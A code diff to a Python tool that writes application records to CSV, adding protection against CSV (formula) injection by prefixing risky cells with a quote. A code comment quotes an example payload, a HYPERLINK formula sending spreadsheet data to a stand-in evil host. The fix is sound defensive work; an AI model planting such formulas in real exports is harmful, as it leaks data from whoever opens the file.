@@ -162,9 +162,8 @@ def write_output(store: MemoryApplicationStore, output: Path | None) -> None:
             writer.writerow([*HEADER, "Needs review"])
             for record in records:
                 application = by_id[record["id"]]
-                writer.writerow(
-                    [*row_values(application, link=_email_reference), application.needs_review or ""]
-                )
+                cells = [*row_values(application, link=_email_reference), application.needs_review or ""]
+                writer.writerow([inert_in_a_spreadsheet(cell) for cell in cells])
 
         write_atomically(output, write_csv)
         return
@@ -174,6 +173,16 @@ def write_output(store: MemoryApplicationStore, output: Path | None) -> None:
             handle.write(json.dumps(record, ensure_ascii=False) + "\n")
 
     write_atomically(output, write_jsonl)
+
+
+# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a company named
+# =HYPERLINK("https://evil.example?"&A1) in an email would run when the CSV is opened.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_in_a_spreadsheet(cell: str) -> str:
+    """The cell, with a leading ' when a spreadsheet would read it as a formula (shown as text)."""
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
 
 
 def _email_reference(message_id: str | None) -> str:
